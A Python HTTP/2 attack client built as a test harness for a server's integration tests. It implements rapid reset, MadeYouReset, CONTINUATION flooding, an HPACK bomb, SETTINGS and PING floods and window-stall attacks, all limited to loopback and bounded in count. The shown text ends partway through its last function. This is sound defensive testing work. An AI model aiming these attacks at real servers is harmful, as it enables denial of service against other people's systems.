#!/usr/bin/python3
"""h2attack -- an HTTP/2 client that sends what well-behaved clients never do, for
sysbind's integration tests (test_h2_attacks.sh, test_h2.sh, test_h2_lifecycle.sh,
test_depth_h2.sh, test_depth_backend.sh).  It speaks HTTP/2 at the frame level with
Debian's python3-h2 family (hyperframe builds and parses the frames, hpack encodes and
decodes the header blocks), over TLS with ALPN h2, to 127.0.0.1 or ::1 only; h1-keepalive speaks HTTP/1.1
(ALPN http/1.1).

    h2attack.py SUBCOMMAND --port N [--sni NAME] [options]

Each subcommand runs one attack or one flow, bounded in count and in time, and prints what
the server sent back, one "key=value" per line:

    alpn=h2                       the protocol the server chose
    sent=N                        streams (or frames) the attack sent
    responses=N                   final responses (HEADERS with a non-1xx :status)
    status=200:3 400:1            their status codes
    rst=CANCEL:2                  RST_STREAMs the server sent, by error code
    rst_streams=1,3               ... and on which streams
    goaway=ENHANCE_YOUR_CALM      the server's GOAWAY (none: there was none)
    goaway_last_stream=N
    closed=1                      the server closed the connection (TLS or TCP)
    elapsed_ms=N

plus what a subcommand measures itself (documented with it).  The exit status is 0 when
the run could be made (whatever the server answered), 2 when it could not (no connection,
no h2).  The tests judge the output.
"""
import argparse
import hashlib
import os
import socket
import struct
import ssl
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame,
                              HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame,
                              WindowUpdateFrame)
from h2.errors import ErrorCodes

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LOOPBACK = ("127.0.0.1", "::1")


def code_name(code):
    try:
        return ErrorCodes(code).name
    except ValueError:
        return "0x%x" % code


def tls_context(alpn, tls13=False):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(alpn)
    if tls13:
        ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    return ctx


class BioSocket:
    """TLS over memory BIOs (ssl.SSLObject) on a plain socket, with the socket calls
    Client uses: the test decides how records map to TCP writes (send_records: each
    piece its own TLS record, all in one write) and can end its side of the connection
    (close_write: close_notify, then the TCP FIN) while it goes on reading.  TLS 1.3
    only, where a close_notify closes one direction (RFC 8446 §6.1)."""

    def __init__(self, ctx, raw, server_hostname):
        self.raw = raw
        self.inc = ssl.MemoryBIO()
        self.out = ssl.MemoryBIO()
        self.obj = ctx.wrap_bio(self.inc, self.out, server_hostname=server_hostname)
        end = time.monotonic() + 10
        while True:
            try:
                self.obj.do_handshake()
                break
            except ssl.SSLWantReadError:
                self._flush()
                if time.monotonic() > end:
                    raise OSError("TLS handshake timed out")
                data = self.raw.recv(1 << 16)
                if not data:
                    raise OSError("closed during the TLS handshake")
                self.inc.write(data)
        self._flush()
        self.eof_sent = False

    def _flush(self):
        data = self.out.read()
        if data:
            self.raw.sendall(data)

    def selected_alpn_protocol(self):
        return self.obj.selected_alpn_protocol()

    def version(self):
        return self.obj.version()

    def settimeout(self, t):
        self.raw.settimeout(t)

    def sendall(self, data):
        if self.eof_sent:
            raise OSError("the write side is closed")
        self.obj.write(data)
        self._flush()

    def send_records(self, pieces):
        """Each piece its own TLS record, all of them in one TCP write."""
        for piece in pieces:
            self.obj.write(piece)
        self._flush()

    def close_write(self):
        """close_notify, then shut the TCP write side; reading goes on."""
        try:
            self.obj.unwrap()
        except (ssl.SSLWantReadError, ssl.SSLError):
            pass
        self._flush()
        self.raw.shutdown(socket.SHUT_WR)
        self.eof_sent = True

    def recv(self, n):
        while True:
            try:
                return self.obj.read(n)
            except ssl.SSLWantReadError:
                pass
            except ssl.SSLZeroReturnError:
                return b""
            data = self.raw.recv(1 << 16)   # socket.timeout goes to the caller
            if not data:
                return b""
            self.inc.write(data)
            self._flush()   # a TLS 1.3 key update's answer, if any


class Client:
    """One HTTP/2 connection and what the server sent on it."""

    def __init__(self, args, settings=None, auto_window=True, preface=True, bio=False):
        if args.host not in LOOPBACK:
            raise SystemExit("h2attack: loopback only (127.0.0.1 or ::1), not %s" % args.host)
        ctx = tls_context(["h2"], tls13=bio)
        raw = socket.create_connection((args.host, args.port), timeout=10)
        # frames go out as they are made (as curl and nghttp send them): Nagle's wait for
        # the server's delayed ACK would stretch a 48 MiB upload to half a minute
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if bio:
            self.sock = BioSocket(ctx, raw, args.sni or None)
        else:
            self.sock = ctx.wrap_socket(raw, server_hostname=args.sni or None)
        self.alpn = self.sock.selected_alpn_protocol()
        self.authority = args.authority or "%s:%d" % (args.sni or args.host, args.port)
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.dec.max_header_list_size = 1 << 24
        self.dec.max_allowed_table_size = 1 << 16
        self.buf = b""
        self.closed = False
        self.auto_window = auto_window
        self.next_id = 1
        self.t0 = time.monotonic()
        # what the server sent
        self.responses = {}          # stream -> final status
        self.interim = {}            # stream -> [1xx statuses]
        self.headers = {}            # stream -> decoded final header list
        self.ended = set()           # streams the server ended (END_STREAM)
        self.trailers = {}           # stream -> decoded trailer section (after the final head)
        self.trailers_end = {}       # stream -> 1 when that block ended the stream
        self.data_end = set()        # streams a DATA frame ended
        self.rst = {}                # stream -> error code
        self.rst_at = {}             # stream -> monotonic time of the RST_STREAM
        self.data = {}               # stream -> bytes of DATA received
        self.sha = {}                # stream -> hashlib object
        self.bodies = {}             # stream -> the first 64 KiB of its DATA
        self.goaway = None           # (code, last_stream, debug) of the last GOAWAY
        self.goaways = []            # every GOAWAY: ((code, last_stream, debug), time)
        self.settings_acks = 0
        self.ping_acks = 0
        self.server_settings = {}
        self.block = None            # (stream, bytes) of a header block being received
        # flow control for what we send
        self.send_conn_window = 65535
        self.send_initial = 65535
        self.send_windows = {}
        if self.alpn != "h2" or not preface:
            return   # without preface: the caller sends its own (h2spec.py's section 3.4)
        s = SettingsFrame(0)
        for k, v in (settings or {}).items():
            s.settings[k] = v
        self.sock.sendall(PREFACE + s.serialize())

    # ---- sending ----

    def send(self, *frames):
        if self.closed:
            return False
        try:
            self.sock.settimeout(10)   # reads shorten it; a write may have to wait
            self.sock.sendall(b"".join(f.serialize() for f in frames))
        except (OSError, ssl.SSLError):
            self.closed = True
            return False
        return True

    def send_raw(self, data):
        if self.closed:
            return False
        try:
            self.sock.settimeout(10)
            self.sock.sendall(data)
        except (OSError, ssl.SSLError):
            self.closed = True
            return False
        return True

    def new_stream(self):
        sid = self.next_id
        self.next_id += 2
        self.send_windows[sid] = self.send_initial
        return sid

    def request_headers(self, method="GET", path="/", extra=()):
        return [(":method", method), (":scheme", "https"), (":path", path),
                (":authority", self.authority)] + list(extra)

    def headers_frame(self, sid, headers, end_stream=True, end_headers=True):
        f = HeadersFrame(sid)
        f.data = self.enc.encode(headers)
        if end_stream:
            f.flags.add("END_STREAM")
        if end_headers:
            f.flags.add("END_HEADERS")
        return f

    def get(self, path, extra=(), end_stream=True):
        sid = self.new_stream()
        self.send(self.headers_frame(sid, self.request_headers("GET", path, extra), end_stream))
        return sid

    # ---- receiving ----

    def _read(self, timeout):
        """Read what arrives within timeout seconds; False once the server closed."""
        if self.closed:
            return False
        self.sock.settimeout(max(timeout, 0.001))
        try:
            chunk = self.sock.recv(1 << 16)
        except socket.timeout:
            return True
        except ssl.SSLWantReadError:
            return True
        except (OSError, ssl.SSLError):
            self.closed = True
            return False
        if not chunk:
            self.closed = True
            return False
        self.buf += chunk
        return True

    def _frames(self):
        while len(self.buf) >= 9:
            f, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            body, self.buf = self.buf[9:9 + length], self.buf[9 + length:]
            f.parse_body(memoryview(body))
            yield f

    def _on_block(self, sid, block, end_stream):
        hdrs = self.dec.decode(block, raw=False)
        status = next((v for k, v in hdrs if k == ":status"), None)
        if status is not None and status.startswith("1"):
            self.interim.setdefault(sid, []).append(int(status))
        elif status is not None:
            self.responses[sid] = int(status)
            self.headers[sid] = hdrs
        elif sid in self.responses:
            # a block after the final response's: its trailer section
            self.trailers[sid] = hdrs
            self.trailers_end[sid] = end_stream
        if end_stream:
            self.ended.add(sid)

    def _handle(self, f):
        t = f.type
        if t == SettingsFrame.type:
            if "ACK" in f.flags:
                self.settings_acks += 1
            else:
                self.server_settings.update(f.settings)
                if SettingsFrame.INITIAL_WINDOW_SIZE in f.settings:
                    new = f.settings[SettingsFrame.INITIAL_WINDOW_SIZE]
                    for sid in self.send_windows:
                        self.send_windows[sid] += new - self.send_initial
                    self.send_initial = new
                ack = SettingsFrame(0)
                ack.flags.add("ACK")
                self.send(ack)
        elif t == PingFrame.type:
            if "ACK" in f.flags:
                self.ping_acks += 1
            else:
                ack = PingFrame(0)
                ack.flags.add("ACK")
                ack.opaque_data = f.opaque_data
                self.send(ack)
        elif t == HeadersFrame.type:
            end_stream = "END_STREAM" in f.flags
            if "END_HEADERS" in f.flags:
                self._on_block(f.stream_id, f.data, end_stream)
            else:
                self.block = (f.stream_id, f.data, end_stream)
        elif t == ContinuationFrame.type and self.block is not None:
            sid, data, end_stream = self.block
            data += f.data
            if "END_HEADERS" in f.flags:
                self.block = None
                self._on_block(sid, data, end_stream)
            else:
                self.block = (sid, data, end_stream)
        elif t == DataFrame.type:
            n = f.flow_controlled_length
            self.data[f.stream_id] = self.data.get(f.stream_id, 0) + len(f.data)
            if f.stream_id in self.sha:
                self.sha[f.stream_id].update(f.data)
            b = self.bodies.setdefault(f.stream_id, bytearray())
            if len(b) < 65536:
                b += f.data[:65536 - len(b)]
            if "END_STREAM" in f.flags:
                self.ended.add(f.stream_id)
                self.data_end.add(f.stream_id)
            if self.auto_window and n > 0:
                w1 = WindowUpdateFrame(0)
                w1.window_increment = n
                frames = [w1]
                if "END_STREAM" not in f.flags:
                    w2 = WindowUpdateFrame(f.stream_id)
                    w2.window_increment = n
                    frames.append(w2)
                self.send(*frames)
        elif t == RstStreamFrame.type:
            self.rst[f.stream_id] = f.error_code
            self.rst_at[f.stream_id] = time.monotonic()
        elif t == GoAwayFrame.type:
            self.goaway = (f.error_code, f.last_stream_id, f.additional_data)
            self.goaways.append((self.goaway, time.monotonic()))
        elif t == WindowUpdateFrame.type:
            if f.stream_id == 0:
                self.send_conn_window += f.window_increment
            elif f.stream_id in self.send_windows:
                self.send_windows[f.stream_id] += f.window_increment

    def pump(self, seconds, until=None):
        """Handle frames for at most seconds, or until until() is true or the server
        closed.  Returns until()'s last value (False without one)."""
        end = time.monotonic() + seconds
        while True:
            for f in self._frames():
                self._handle(f)
            if until is not None and until():
                return True
            left = end - time.monotonic()
            if left <= 0 or self.closed:
                for f in self._frames():
                    self._handle(f)
                return until() if until is not None else False
            self._read(min(left, 0.2))

    def done(self, sid):
        return sid in self.ended or sid in self.rst

    def report(self, sent, **extra):
        out = [("alpn", self.alpn), ("sent", sent), ("responses", len(self.responses))]
        counts = {}
        for st in self.responses.values():
            counts[st] = counts.get(st, 0) + 1
        out.append(("status", " ".join("%d:%d" % kv for kv in sorted(counts.items()))))
        rc = {}
        for code in self.rst.values():
            rc[code_name(code)] = rc.get(code_name(code), 0) + 1
        out.append(("rst", " ".join("%s:%d" % kv for kv in sorted(rc.items()))))
        out.append(("rst_streams", ",".join(str(s) for s in sorted(self.rst)[:20])))
        out.append(("goaway", code_name(self.goaway[0]) if self.goaway else "none"))
        out.append(("goaway_last_stream", self.goaway[1] if self.goaway else ""))
        out.append(("closed", 1 if self.closed else 0))
        out.append(("elapsed_ms", int((time.monotonic() - self.t0) * 1000)))
        out.extend(extra.items())
        for k, v in out:
            print("%s=%s" % (k, v))
        sys.stdout.flush()


def connect(args, settings=None, auto_window=True, bio=False):
    try:
        c = Client(args, settings, auto_window, bio=bio)
    except (OSError, ssl.SSLError) as e:
        print("h2attack: cannot connect to %s:%d: %s" % (args.host, args.port, e),
              file=sys.stderr)
        sys.exit(2)
    if c.alpn != "h2":
        print("alpn=%s" % c.alpn)
        print("h2attack: the server did not choose h2", file=sys.stderr)
        sys.exit(2)
    # the server's SETTINGS first
    c.pump(5, lambda: c.server_settings != {} or c.closed)
    return c


def wait_file(path, seconds):
    """The test's go-ahead: wait (bounded) until it creates path."""
    end = time.monotonic() + seconds
    while not os.path.exists(path):
        if time.monotonic() > end:
            return False
        time.sleep(0.02)
    return True


# ---- the attacks ----

def cmd_rapid_reset(args):
    """CVE-2023-44487: open a stream and reset it at once, again and again, in batches,
    never waiting for an answer.  Stops at --count streams, --seconds, a GOAWAY or the
    close."""
    c = connect(args)
    sent = 0
    end = time.monotonic() + args.seconds
    while sent < args.count and time.monotonic() < end and not c.closed and c.goaway is None:
        frames = []
        for _ in range(min(args.batch, args.count - sent)):
            sid = c.new_stream()
            frames.append(c.headers_frame(sid, c.request_headers("GET", args.path)))
            rst = RstStreamFrame(sid)
            rst.error_code = ErrorCodes.CANCEL
            frames.append(rst)
            sent += 1
        c.send(*frames)
        c.pump(0.001)
    c.pump(args.wait, lambda: c.closed)
    c.report(sent)


def cmd_made_you_reset(args):
    """MadeYouReset (CVE-2025-8671): like rapid reset, but the client never resets a
    stream itself: each request announces a content-length of 1 and sends 2 bytes, a
    malformed request (RFC 9113 §8.1.1) the server must reset, after it started.  Stops at
    --count streams, --seconds, a GOAWAY or the close."""
    c = connect(args)
    sent = 0
    end = time.monotonic() + args.seconds
    while sent < args.count and time.monotonic() < end and not c.closed and c.goaway is None:
        frames = []
        for _ in range(min(args.batch, args.count - sent)):
            sid = c.new_stream()
            frames.append(c.headers_frame(sid, c.request_headers(
                "POST", args.path, [("content-length", "1")]), end_stream=False))
            d = DataFrame(sid)
            d.data = b"xx"
            d.flags.add("END_STREAM")
            frames.append(d)
            sent += 1
        c.send(*frames)
        c.pump(0.001)
    c.pump(args.wait, lambda: c.closed)
    c.report(sent)


def cmd_continuation(args):
    """CONTINUATION flood: a HEADERS frame without END_HEADERS, then CONTINUATION frames
    that never end the block, each carrying one more small header field."""
    c = connect(args)
    sid = c.new_stream()
    first = c.headers_frame(sid, c.request_headers("GET", args.path), end_stream=True,
                            end_headers=False)
    c.send(first)
    sent = 1
    end = time.monotonic() + args.seconds
    while sent < args.count and time.monotonic() < end and not c.closed and c.goaway is None:
        frames = []
        for i in range(min(args.batch, args.count - sent)):
            f = ContinuationFrame(sid)
            f.data = c.enc.encode([("x-c%d" % (sent + i), "c")])
            frames.append(f)
        sent += len(frames)
        c.send(*frames)
        c.pump(0.001)
    c.pump(args.wait, lambda: c.closed)
    c.report(sent)


def cmd_hpack_bomb(args):
    """HPACK bomb: one request puts a field of --field-size bytes into the server's
    dynamic table; then each of --streams requests carries a header block of 1-byte
    references to it, filling --block bytes: --block fields of --field-size bytes each
    once decoded (16 KiB of block: 64 MiB of header list)."""
    c = connect(args)
    big = "b" * args.field_size

    def plain(headers):
        # literals that stay out of the dynamic table: only x-bomb ever enters it
        return [hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers]
    sid = c.new_stream()
    c.send(c.headers_frame(sid, plain(c.request_headers("GET", args.path)) +
                           [("x-bomb", big)]))
    c.pump(5, lambda: c.done(sid) or c.closed)
    first = c.responses.get(sid, 0)
    # the one entry in the table is index 62 (the first dynamic one): 0x80 | 62
    ref = bytes([0x80 | 62])
    sent = 0
    decoded = 0
    for _ in range(args.streams):
        if c.closed or c.goaway is not None:
            break
        sid = c.new_stream()
        f = c.headers_frame(sid, plain(c.request_headers("GET", args.path)))
        nref = args.block - len(f.data)
        f.data += ref * nref
        decoded += nref * (args.field_size + len("x-bomb") + 32)
        c.send(f)
        sent += 1
        c.pump(0.001)
    c.pump(args.wait, lambda: c.closed or all(c.done(s) for s in range(3, c.next_id, 2)))
    c.report(sent, first_status=first, decoded_bytes_sent=decoded)


def cmd_settings_flood(args):
    """SETTINGS flood: --count SETTINGS frames (each asks for an ACK), in batches, each
    with --entries settings (ENABLE_PUSH 0, then settings of unknown ids from 0x20, which
    RFC 9113 §6.5.2 says to ignore; below 0x100, as hyperframe keeps an id's low byte
    only).  Also reports conn_window: the connection window the server
    granted before the first frame was sent (65535 plus its WINDOW_UPDATEs on stream 0)."""
    c = connect(args)
    # the connection's WINDOW_UPDATE follows the server's SETTINGS (none when the window
    # stays at 65535)
    c.pump(1, lambda: c.send_conn_window != 65535 or c.closed)
    conn_window = c.send_conn_window
    sent = 0
    end = time.monotonic() + args.seconds
    while sent < args.count and time.monotonic() < end and not c.closed and c.goaway is None:
        frames = []
        for _ in range(min(args.batch, args.count - sent)):
            s = SettingsFrame(0)
            s.settings[SettingsFrame.ENABLE_PUSH] = 0
            for i in range(args.entries - 1):
                s.settings[0x20 + i] = i
            frames.append(s)
        sent += len(frames)
        c.send(*frames)
        c.pump(0.001 if args.batch > 1 else 0.2, lambda: c.closed or c.goaway is not None)
    c.pump(args.wait, lambda: c.closed)
    c.report(sent, settings_acks=c.settings_acks, conn_window=conn_window)


def cmd_ping_flood(args):
    """PING flood: --count PINGs (each asks for an ACK), in batches."""
    c = connect(args)
    sent = 0
    end = time.monotonic() + args.seconds
    while sent < args.count and time.monotonic() < end and not c.closed and c.goaway is None:
        frames = []
        for i in range(min(args.batch, args.count - sent)):
            p = PingFrame(0)
            p.opaque_data = (sent + i).to_bytes(8, "big")
            frames.append(p)
        sent += len(frames)
        c.send(*frames)
        c.pump(0.001)
    c.pump(args.wait, lambda: c.closed)
    c.report(sent, ping_acks=c.ping_acks)


def cmd_zero_window(args):
    """A window that never opens: the stream's (SETTINGS_INITIAL_WINDOW_SIZE 0) or, with
    --conn, the connection's (the client takes the first 65535 bytes and never sends a
    WINDOW_UPDATE).  Asks for --path, then waits for the server to give up on the stream.
    Prints rst_after_ms: from the response's head to the server's RST_STREAM; then, on
    the same connection, asks for --then and prints then_status."""
    if args.conn:
        c = connect(args, auto_window=False)
    else:
        c = connect(args, {SettingsFrame.INITIAL_WINDOW_SIZE: 0}, auto_window=False)
    c.pump(5, lambda: c.settings_acks > 0 or c.closed)
    sid = c.get(args.path)
    c.pump(10, lambda: sid in c.responses or c.done(sid) or c.closed)
    head_at = time.monotonic()
    c.pump(args.wait, lambda: c.done(sid) or c.closed)
    rst_after = int((c.rst_at[sid] - head_at) * 1000) if sid in c.rst_at else -1
    then = 0
    if args.then and not c.closed and c.goaway is None:
        # a new stream whose response fits: open the windows for it
        if args.conn:
            w = WindowUpdateFrame(0)
            w.window_increment = 1 << 20
            c.send(w)
        else:
            s = SettingsFrame(0)
            s.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = 65535
            c.send(s)
        c.auto_window = True
        t = c.get(args.then)
        c.pump(10, lambda: c.done(t) or c.closed)
        then = c.responses.get(t, 0)
    c.report(1, head_status=c.responses.get(sid, 0), body_bytes=c.data.get(sid, 0),
             rst_after_ms=rst_after, then_status=then)


def cmd_streams(args):
    """Too many concurrent streams: --count requests for --path (a slow one) sent at once,
    beyond the server's SETTINGS_MAX_CONCURRENT_STREAMS.  Prints max_concurrent (what the
    server announced), refused (streams reset with REFUSED_STREAM)."""
    c = connect(args)
    frames = []
    for _ in range(args.count):
        sid = c.new_stream()
        frames.append(c.headers_frame(sid, c.request_headers("GET", args.path)))
    c.send(*frames)
    sids = range(1, c.next_id, 2)
    c.pump(args.wait, lambda: c.closed or all(c.done(s) for s in sids))
    refused = sum(1 for v in c.rst.values() if v == ErrorCodes.REFUSED_STREAM)
    c.report(args.count, refused=refused,
             max_concurrent=c.server_settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS, ""))


def cmd_idle_stream(args):
    """A stream left idle: a request head without END_STREAM (a POST announcing a body)
    and then nothing.  Prints rst_after_ms, from the head's sending to the RST_STREAM;
    then asks for --then on the same connection (then_status)."""
    c = connect(args)
    sid = c.new_stream()
    sent_at = time.monotonic()
    c.send(c.headers_frame(sid, c.request_headers("POST", args.path), end_stream=False))
    c.pump(args.wait, lambda: c.done(sid) or c.closed)
    rst_after = int((c.rst_at[sid] - sent_at) * 1000) if sid in c.rst_at else -1
    then = 0
    if args.then and not c.closed and c.goaway is None:
        t = c.get(args.then)
        c.pump(10, lambda: c.done(t) or c.closed)
        then = c.responses.get(t, 0)
    c.report(1, rst_after_ms=rst_after, then_status=then,
             head_status=c.responses.get(sid, 0))


def cmd_header_wait(args):
    """A header block that never ends: HEADERS without END_HEADERS, then nothing.
    Prints ended_after_ms: from the frame to the server's GOAWAY or close."""
    c = connect(args)
    sid = c.new_stream()
    sent_at = time.monotonic()
    c.send(c.headers_frame(sid, c.request_headers("GET", args.path), end_headers=False))
    c.pump(args.wait, lambda: c.closed or c.goaway is not None or c.done(sid))
    ended = int((time.monotonic() - sent_at) * 1000)
    c.pump(2, lambda: c.closed)
    c.report(1, ended_after_ms=ended)


def cmd_reset_uploads(args):
    """Uploads given up: --count times, a POST to --path announcing 10 MiB, sent until the
    server's windows stay shut for --quiet seconds (its backend takes nothing), then reset
    by the client.  What the server held of each must not stay counted against the
    connection's window: afterwards a POST of 1 MiB to --then (at --then-authority) must
    go through on the same connection.  Prints held (the uploads that met a shut window
    before their reset), given_up_bytes, conn_window (the client's view of the connection
    window after them), then_status and then_sent."""
    c = connect(args)
    size = 10 << 20
    block = b"r" * 16384
    held = 0
    given_up = 0
    for _ in range(args.count):
        if c.closed or c.goaway is not None:
            break
        sid = c.new_stream()
        c.send(c.headers_frame(sid, c.request_headers(
            "POST", args.path, [("content-length", str(size))]), end_stream=False))
        while not c.closed and not c.done(sid):
            room = min(c.send_conn_window, c.send_windows[sid], 16384)
            if room <= 0:
                if not c.pump(args.quiet, lambda: min(c.send_conn_window,
                                                      c.send_windows[sid]) > 0 or c.done(sid)):
                    held += 1
                    break
                continue
            f = DataFrame(sid)
            f.data = block[:room]
            c.send(f)
            given_up += room
            c.send_conn_window -= room
            c.send_windows[sid] -= room
            c.pump(0)
        rst = RstStreamFrame(sid)
        rst.error_code = ErrorCodes.CANCEL
        c.send(rst)
        c.pump(0.05)
    conn_window = c.send_conn_window
    # the last upload, to a backend that reads
    sid = c.new_stream()
    c.authority = args.then_authority or c.authority
    total = 1 << 20
    c.send(c.headers_frame(sid, c.request_headers(
        "POST", args.then, [("content-length", str(total))]), end_stream=False))
    sent = 0
    while sent < total and not c.closed and not c.done(sid):
        room = min(c.send_conn_window, c.send_windows[sid], 16384, total - sent)
        if room <= 0:
            if not c.pump(args.quiet * 4, lambda: min(c.send_conn_window,
                                                      c.send_windows[sid]) > 0 or c.done(sid)):
                break
            continue
        f = DataFrame(sid)
        f.data = block[:room]
        sent += room
        if sent == total:
            f.flags.add("END_STREAM")
        c.send(f)
        c.send_conn_window -= room
        c.send_windows[sid] -= room
        c.pump(0)
    c.pump(args.wait, lambda: c.done(sid) or c.closed)
    c.report(args.count, held=held, given_up_bytes=given_up, conn_window=conn_window,
             then_status=c.responses.get(sid, 0), then_sent=sent)


# ---- flows with back-pressure (test_h2.sh) ----

def cmd_slow_read(args):
    """Back-pressure towards the backend: download --path, taking --first bytes, then
    stop opening the window; print "holding received=N" and wait for the test to create
    --release; then take the rest.  Prints received and sha256 of the whole body."""
    c = connect(args, auto_window=False)
    sid = c.get(args.path)
    c.sha[sid] = hashlib.sha256()
    given = 65535   # the initial windows, stream and connection
    while not c.done(sid) and not c.closed:
        got = c.data.get(sid, 0)
        if got >= args.first:
            break
        if got >= given - 32768:
            w0, w1 = WindowUpdateFrame(0), WindowUpdateFrame(sid)
            w0.window_increment = w1.window_increment = 65535
            c.send(w0, w1)
            given += 65535
        c.pump(5, lambda g=got: c.data.get(sid, 0) > g or c.done(sid) or c.closed)
    c.pump(1, lambda: False)   # what was in flight arrives; nothing more can
    print("holding received=%d" % c.data.get(sid, 0))
    sys.stdout.flush()
    held = c.data.get(sid, 0)
    released = wait_file(args.release, args.wait)
    c.auto_window = True
    w0, w1 = WindowUpdateFrame(0), WindowUpdateFrame(sid)
    w0.window_increment = w1.window_increment = 1 << 24
    c.send(w0, w1)
    c.pump(args.wait, lambda: c.done(sid) or c.closed)
    c.report(1, held=held, released=int(released), received=c.data.get(sid, 0),
             sha256=c.sha[sid].hexdigest(), ended=int(sid in c.ended))


def cmd_upload(args):
    """Back-pressure from the backend: upload --size bytes (a fixed pseudo-random
    pattern) to --path, as fast as the server's windows allow.  When no window opened
    for --quiet seconds, print "blocked sent=N" and wait for the test to create
    --release; then send the rest.  Prints sent_bytes, sha256 of what was sent, and the
    response's body (the backend's echo) as body=..."""
    c = connect(args)
    sid = c.new_stream()
    c.sha[sid] = hashlib.sha256()
    c.send(c.headers_frame(sid, c.request_headers(
        "POST", args.path, [("content-length", str(args.size))]), end_stream=False))
    sha = hashlib.sha256()
    block = (hashlib.sha256(b"sysbind").digest() * 512)[:16384]
    sent = 0
    blocked_reported = False
    released = 0
    while sent < args.size and not c.closed and not c.done(sid):
        room = min(c.send_conn_window, c.send_windows[sid], 16384, args.size - sent)
        if room <= 0:
            opened = c.pump(args.quiet if not blocked_reported else args.wait,
                            lambda: min(c.send_conn_window, c.send_windows[sid]) > 0 or
                            c.done(sid) or c.closed)
            if not opened and not blocked_reported and args.release:
                print("blocked sent=%d" % sent)
                sys.stdout.flush()
                blocked_reported = True
                released = int(wait_file(args.release, args.wait))
            elif not opened and blocked_reported:
                break
            continue
        chunk = block[:room]
        f = DataFrame(sid)
        f.data = chunk
        sent += room
        if sent == args.size:
            f.flags.add("END_STREAM")
        if not c.send(f):
            break
        sha.update(chunk)
        c.send_conn_window -= room
        c.send_windows[sid] -= room
        c.pump(0, lambda: False)
    c.pump(args.wait, lambda: c.done(sid) or c.closed)
    c.report(1, sent_bytes=sent, sha256=sha.hexdigest(), released=released,
             blocked=int(blocked_reported),
             body=bytes(c.bodies.get(sid, b"")).decode("ascii", "replace").strip())


def cmd_trailers(args):
    """Trailers both ways: POST --size bytes to --path (with a content-length only with
    --content-length, and each --header "name: value" after the pseudo-headers), then a
    trailing HEADERS frame with END_STREAM holding each --trailer "name: value"; read the
    response and its own trailer section.  Prints
    trailers= (the response's trailer fields, "name: value" joined by " | ", in order),
    trailers_end_stream= (1 when that HEADERS frame ended the stream), data_end_stream=
    (1 when a DATA frame ended it instead), and the response's body as body=..."""
    c = connect(args)
    sid = c.new_stream()
    extra = [("content-length", str(args.size))] if args.content_length else []
    for h in args.header:
        name, _, value = h.partition(":")
        extra.append((name.strip(), value.strip()))
    c.send(c.headers_frame(sid, c.request_headers("POST", args.path, extra), end_stream=False))
    body = (hashlib.sha256(b"trailers").digest() * 64)[:args.size]
    if body:
        f = DataFrame(sid)
        f.data = body
        c.send(f)
    fields = []
    for t in args.trailer:
        name, _, value = t.partition(":")
        fields.append((name.strip(), value.strip()))
    c.send(c.headers_frame(sid, fields, end_stream=True))
    c.pump(args.wait, lambda: c.done(sid) or c.closed)
    tr = c.trailers.get(sid, [])
    c.report(1, sha256=hashlib.sha256(body).hexdigest(),
             trailers=" | ".join("%s: %s" % kv for kv in tr),
             trailers_end_stream=int(bool(c.trailers_end.get(sid))),
             data_end_stream=int(sid in c.data_end),
             body=bytes(c.bodies.get(sid, b"")).decode("ascii", "replace").strip())


# ---- the connection's lifecycle (test_h2_lifecycle.sh) ----

def stream_result(c, sid):
    """What one stream came to: its final status, rst:CODE, or none."""
    if sid is None:
        return ""
    if sid in c.responses:
        return str(c.responses[sid])
    if sid in c.rst:
        return "rst:" + code_name(c.rst[sid])
    return "none"


def cmd_hold(args):
    """A connection held open across what the test does meanwhile (a reload, SIGTERM,
    the idle timer): the preface, then, with --path, one request (stream 1) left in
    flight; prints "ready" (or "inflight") and waits, at most --wait seconds, for the
    server's GOAWAY or its close.  After a GOAWAY, or once stream 1 ended without one,
    asks for --then on a new stream (the server must not serve it under the old
    configuration after a GOAWAY).  Then waits for the close (at most --wait seconds).
    Prints first= and then= (each a status, rst:CODE or none), first_ended (1 when
    stream 1 ended, END_STREAM), goaways (how many), goaway_before_first_end (1 when
    the first GOAWAY came while stream 1 was still in flight)."""
    c = connect(args)
    first = None
    if args.path != "/":
        first = c.get(args.path)
        print("inflight")
    else:
        print("ready")
    sys.stdout.flush()
    c.pump(args.wait, lambda: c.closed or c.goaway is not None or
           (first is not None and c.done(first)))
    before_end = int(bool(c.goaways) and first is not None and not c.done(first))
    then = None
    if args.then and not c.closed:
        then = c.get(args.then)
    c.pump(args.wait, lambda: c.closed)
    c.report(int(first is not None) + int(then is not None), first=stream_result(c, first),
             first_ended=int(first is not None and first in c.ended),
             then=stream_result(c, then), goaways=len(c.goaways),
             goaway_before_first_end=before_end)


def cmd_early_hold(args):
    """An early answer the client does not finish: POST --path announcing --size bytes
    (content-length), send --first of them, and once the final response ended
    (END_STREAM) print "answered" and send nothing more on the stream, neither the rest
    nor a RST_STREAM (what a client may do that stops at the answer); then wait, at most
    --wait seconds, for the server's close, answering only PINGs and SETTINGS.  Prints
    first= (the status), rst (RST_STREAMs the server sent: after a complete answer,
    NO_ERROR asks the client to stop, RFC 9113 §8.1), goaway=, closed=, and
    closed_after_ms (from "answered" to the close, -1 without one)."""
    c = connect(args)
    sid = c.new_stream()
    c.send(c.headers_frame(sid, c.request_headers(
        "POST", args.path, [("content-length", str(args.size))]), end_stream=False))
    sent = 0
    while sent < args.first and not c.closed:
        k = min(16384, args.first - sent, c.send_conn_window, c.send_windows[sid])
        if k <= 0:
            if not c.pump(5, lambda: min(c.send_conn_window, c.send_windows[sid]) > 0):
                break
            continue
        f = DataFrame(sid)
        f.data = b"e" * k
        c.send(f)
        c.send_conn_window -= k
        c.send_windows[sid] -= k
        sent += k
    c.pump(args.wait, lambda: sid in c.ended or sid in c.rst or c.closed)
    print("answered")
    sys.stdout.flush()
    at = time.monotonic()
    c.pump(args.wait, lambda: c.closed)
